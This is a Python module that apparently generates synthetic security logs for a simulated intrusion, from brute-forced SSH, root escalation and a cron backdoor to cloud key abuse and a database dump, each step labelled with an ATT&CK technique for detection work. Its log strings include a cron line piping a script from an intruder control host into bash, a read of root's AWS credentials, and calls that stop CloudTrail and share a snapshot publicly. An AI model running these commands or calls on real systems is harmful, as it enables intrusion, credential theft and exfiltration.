"""A guessed password on the jump host leads to root, to the cloud account, and to the database."""

from __future__ import annotations

from typing import TYPE_CHECKING

from trailhound.simulate.clock import HOUR, MINUTE, SECOND
from trailhound.simulate.company import DATABASE, JUMP
from trailhound.simulate.names import AWS_ACCOUNT
from trailhound.simulate.products.cloudtrail import CLI, Call, Caller, access_key, iam_user
from trailhound.simulate.products.pgaudit import Statement
from trailhound.simulate.products.zeek import Flow, Request

if TYPE_CHECKING:
    from trailhound.simulate.stories.stage import Stage

USER = "deploy"
MEGABYTE = 1_000_000
STOLEN_KEY = (
    ("T1087.004", "a key is used from a new address", Call("sts", "GetCallerIdentity")),
    ("", "", Call("iam", "ListUsers", {})),
    ("", "", Call("iam", "GetAccountAuthorizationDetails", {})),
    (
        "T1098.001",
        "a second access key is made",
        Call(
            "iam",
            "CreateAccessKey",
            {"userName": "terraform"},
            {
                "accessKey": {
                    "accessKeyId": access_key("second"),
                    "status": "Active",
                    "userName": "terraform",
                }
            },
            reads=False,
        ),
    ),
    (
        "T1562.008",
        "the trail stops logging",
        Call(
            "cloudtrail",
            "StopLogging",
            {"name": f"arn:aws:cloudtrail:eu-central-1:{AWS_ACCOUNT}:trail/organisation"},
            reads=False,
        ),
    ),
    (
        "T1537",
        "a snapshot of the shop is shared with everybody",
        Call(
            "ec2",
            "ModifySnapshotAttribute",
            {
                "snapshotId": "snap-0a7c41d29e5f60b83",
                "attributeType": "CREATE_VOLUME_PERMISSION",
                "createVolumePermission": {"add": {"items": [{"group": "all"}]}},
            },
            {"_return": True},
            reads=False,
        ),
    ),
)
"""What is done with the stolen key: technique, title (empty: no step of its own), call."""


def play(stage: Stage) -> None:
    """Play the story on the third working day."""
    day = stage.day(2)
    source = stage.intruder.storage
    break_in(stage, stage.at(day, 5, 12), source)
    become_root(stage, stage.at(day, 5, 31), source, USER)
    stay(stage, stage.at(day, 5, 40), source, USER)
    use_cloud(stage, stage.at(day, 6, 10), source)
    dump_database(stage, stage.at(day, 6, 40), source)


def break_in(stage: Stage, at: int, source: str) -> None:
    """Many wrong passwords, then a right one."""
    syslog = stage.world.syslog
    where = {"hosts": (JUMP.name,), "users": (USER,), "addresses": (source,)}
    guess = stage.step(at, "T1110.001", "one address guesses passwords on the jump host", **where)
    for n in range(80):
        step = guess if n == 0 else None
        syslog.wrong_password(
            at + n * 6 * SECOND, JUMP, USER, source, pid=4100 + n, known=True, step=step
        )
    inside = at + 9 * MINUTE
    log_in(stage, inside, source, USER)


def log_in(stage: Stage, at: int, source: str, user: str) -> None:
    """A password is accepted."""
    syslog = stage.world.syslog
    step = stage.step(
        at,
        "T1078.003",
        f"{user} logs in to the jump host with a password",
        hosts=(JUMP.name,),
        users=(user,),
        addresses=(source,),
    )
    syslog.say(
        at,
        JUMP,
        "sshd",
        f"Accepted password for {user} from {source} port 41822 ssh2",
        pid=4391,
        step=step,
    )
    opened = f"pam_unix(sshd:session): session opened for user {user}(uid=1004) by {user}(uid=0)"
    syslog.say(at + 20_000, JUMP, "sshd", opened, pid=4391)
    stage.world.zeek.flow(
        at, Flow(source, JUMP.address, 22, 90 * MINUTE, 88_000, 240_000, service="ssh")
    )


def become_root(stage: Stage, at: int, source: str, user: str) -> None:
    """A root shell, and the cloud's keys from root's home."""
    where = {"hosts": (JUMP.name,), "users": (user,), "addresses": (source,)}
    shell = stage.step(at, "T1548.003", f"{user} opens a root shell", **where)
    stage.world.syslog.sudo(at, JUMP, user, "/bin/bash", step=shell)
    keys = stage.step(at + MINUTE, "T1552.001", "the cloud's keys are read", **where)
    stage.world.syslog.sudo(
        at + MINUTE, JUMP, user, "/usr/bin/cat /root/.aws/credentials", step=keys
    )


def stay(stage: Stage, at: int, source: str, user: str) -> None:
    """A job that fetches and runs a script every hour, and a second root account."""
    syslog = stage.world.syslog
    where = {"hosts": (JUMP.name,), "users": (user, "root"), "addresses": (source,)}
    edit = stage.step(at, "T1053.003", "a job is written into /etc/cron.d", **where)
    syslog.sudo(at, JUMP, user, "/usr/bin/tee /etc/cron.d/sysupdate", step=edit)
    account = stage.step(at + MINUTE, "T1136.001", "a second account with user id 0", **where)
    text = (
        "new user: name=sysupd, UID=0, GID=0, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/1"
    )
    syslog.say(at + MINUTE, JUMP, "useradd", text, pid=4602, step=account)
    command = f"curl -fsSL http://{stage.intruder.control_name}/u.sh | bash"
    first = at // HOUR * HOUR + HOUR + 33 * MINUTE
    script = Request(stage.intruder.control_name, "/u.sh", "curl/7.88.1", "text/x-shellscript")
    runs = stage.step(
        first, "T1053.003", "cron fetches a script and pipes it into a shell", **where
    )
    for n in range(5):
        moment = first + n * HOUR
        syslog.cron(moment, JUMP, "root", command, step=runs if n == 0 else None)
        flow = Flow(JUMP.address, stage.intruder.control, 80, SECOND, 140, 3100)
        stage.world.zeek.request(moment + SECOND, flow, script)


def use_cloud(stage: Stage, at: int, source: str) -> None:
    """The stolen key: look around, a key of one's own, no more log, a snapshot for everybody."""
    caller = Caller(
        iam_user("terraform", access_key("terraform")), source, f"{CLI}sts.get-caller-identity"
    )
    for n, (technique, title, call) in enumerate(STOLEN_KEY):
        moment = at + n * 2 * MINUTE
        step = None
        if technique:
            step = stage.step(moment, technique, title, users=("terraform",), addresses=(source,))
        stage.world.aws.call(moment, caller, call, step=step)


def dump_database(stage: Stage, at: int, source: str) -> None:
    """Whole tables are copied out from the jump host, with the shop's own password."""
    world = stage.world
    session = world.database.connect(at, "shop_app", "shop", JUMP.address, "psql")
    step = stage.step(
        at + 20 * SECOND,
        "T1213.006",
        "the shop's account copies whole tables out with psql",
        hosts=(DATABASE.name, JUMP.name),
        users=("shop_app",),
        addresses=(JUMP.address,),
    )
    for n, table in enumerate(("public.customers", "public.payments"), 1):
        copy = Statement("READ", "COPY", table, f"COPY {table} TO STDOUT WITH (FORMAT csv)", 0)
        world.database.run(at + n * 20 * SECOND, session, n, copy, step=step if n == 1 else None)
    inside = Flow(
        JUMP.address, DATABASE.address, 5432, 2 * MINUTE, 4000, 640 * MEGABYTE, service="postgresql"
    )
    world.zeek.flow(at, inside)
    out = at + 6 * MINUTE
    leaves = stage.step(
        out,
        "T1048",
        "the dump leaves the jump host",
        hosts=(JUMP.name,),
        addresses=(JUMP.address, source),
    )
    flow = Flow(JUMP.address, source, 443, 4 * MINUTE, 610 * MEGABYTE, 90_000)
    world.zeek.tls(out, flow, "", step=leaves)
